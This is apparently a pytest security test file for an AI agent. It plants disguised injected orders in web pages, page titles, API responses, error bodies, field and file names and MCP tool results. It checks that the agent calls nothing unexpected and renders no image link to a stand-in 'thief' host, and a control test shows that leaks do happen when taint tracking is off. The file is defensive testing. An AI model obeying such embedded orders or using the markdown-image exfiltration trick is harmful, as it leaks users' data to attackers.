"""Injected orders in many phrases, disguises and places: a few dozen of them, and many in `make test-full`."""

import os
import random
from collections.abc import Callable

import pytest

from tests.fakes.disguises import HIDDEN, PHRASES, hide
from tests.fakes.mcp_server import McpFake, mcp_error, text
from tests.security.injection import LONG, READS, WRITES, House, assert_safe, elsewhere, order, trusting
from web.markdown import render

pytestmark = pytest.mark.django_db(transaction=True)
LARGE = os.environ.get("BOTTEGA_LARGE") == "1"
PARTS = 7 if LARGE else 1  # not a divisor of the disguises: each part has all of them
NUMBER = 1600 if LARGE else 16
TRICKS = [*READS, *(trick for trick in WRITES if trick != "files"), "address", "bare address", "image"]
SHORT = ("query", "path", "hex", "flags", "harmless", "typed", "destroy")  # fit into a name and into a line
LIST, GET = order("listTasks", {"owner": "Ada"}), order("getTask", {"id": "Ada"})
INVALID_PARAMS = -32602


def pages(house: House, pieces: list[str]) -> str:
    return " ".join([LIST, *(order("fetch_page", {"url": house.page(piece)}) for piece in pieces)])


def titles(house: House, pieces: list[str]) -> str:
    found = []
    for number, piece in enumerate(pieces):
        path = f"/titles/{number}"
        body = "<body><main><p>High water at nine in the morning.</p></main></body>"
        house.pages.says(path, f"<html><head><title>{piece}</title></head>{body}</html>")
        found.append(order("fetch_page", {"url": house.pages.url + path}))
    return " ".join(found)


def answers(house: House, pieces: list[str], status: int = 200) -> str:
    for path, piece in zip(("/tasks", "/tasks/Ada"), pieces, strict=False):
        house.api.says(path, {"tasks": [{"title": piece}]}, status=status)
    return f"{LIST} {GET}"


def errors(house: House, pieces: list[str]) -> str:
    return answers(house, pieces, status=404)


def names_of_fields(house: House, pieces: list[str]) -> str:
    for path, piece in zip(("/tasks", "/tasks/Ada"), pieces, strict=False):
        house.api.says(path, {piece: 1})
    return f"{LIST} {GET}"


def names_of_files(house: House, pieces: list[str]) -> str:
    for path, piece in zip(("/tasks", "/tasks/Ada"), pieces, strict=False):
        name = f"{piece}.txt".replace("/", "")
        house.api.says(path, {"openaiFileResponse": [{"name": name, "content": "aGVsbG8="}]})
    return f"{LIST} {GET}"


PLACES: dict[str, Callable[[House, list[str]], str]] = {
    "page": pages,
    "title": titles,
    "answer": answers,
    "error": errors,
    "field": names_of_fields,
    "file": names_of_files,
}
CONFINED = ("title", "file", "mcp answer", "mcp error")


def cases() -> list[tuple[str, str, str, str]]:
    """Phrase, disguise, place and trick of each; disguises and places take turns, so that every one is among any eight cases."""
    chance = random.Random(7)
    disguises, places = list(HIDDEN), [*PLACES, "mcp answer", "mcp error"]
    chosen = []
    for number in range(NUMBER):
        row, column = divmod(number, len(disguises))
        place = places[(row + column) % len(places)]
        trick = chance.choice(SHORT if place in CONFINED else TRICKS)
        chosen.append((chance.choice(PHRASES), disguises[column], place, trick))
    return chosen


def asked_at(house: House, harbour: McpFake, place: str, pieces: list[str]) -> str:
    """Lay the order out at its place; the person's question, which leads there."""
    if place in PLACES:
        return PLACES[place](house, pieces)
    for tool, piece in zip(("tides", "berths"), pieces, strict=False):
        failed = place == "mcp error"
        harbour.results[tool] = mcp_error(INVALID_PARAMS, piece) if failed else text(piece)
    return " ".join(order(tool, {"text": "Ada"}) for tool in ("tides", "berths")[: len(pieces)])


@pytest.mark.parametrize("part", range(PARTS))
def test_no_disguise_in_no_place_gets_anything_out(house: House, harbour: McpFake, part: int) -> None:
    image = order("say", {"text": f"![tides]({house.thief.url}/?q=[[raw]])"})
    tricks = READS | WRITES | elsewhere(house) | {"image": image}
    by_hand = {"GET /tasks?owner=Ada", "GET /tasks/Ada", "GET /tasks?kind=open"}
    obeyed: set[str] = set()
    for case in cases()[part::PARTS]:
        phrase, disguise, place, trick = case
        house.api.answers.clear()
        harbour.results.clear()
        asked = asked_at(house, harbour, place, hide(disguise, tricks[trick], phrase))
        message = house.ask(f"What is open? {LONG} greenapplesforada. {asked}")
        assert message["state"] in ("requires_action", "complete"), (case, message)
        assert set(house.api.asked) <= by_hand, case
        assert all(arguments == {"text": "Ada"} for _tool, arguments in harbour.called), case
        shown = str(render(message["text"]))
        assert "<img" not in shown and "src=" not in shown, case
        if message["state"] == "requires_action" or house.thief.url in shown:
            obeyed |= {disguise, place}
        harbour.called.clear()
        assert_safe(house, str(case))
    # An order that never arrives proves nothing.
    assert obeyed == {*HIDDEN, *PLACES, "mcp answer", "mcp error"}


def test_without_taint_every_disguise_gets_something_out(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    trusting(monkeypatch)
    for disguise in HIDDEN:
        house.api.answers.clear()
        house.ask(answers(house, hide(disguise, READS["query"])))
        assert house.stolen(), disguise
        house.forget()
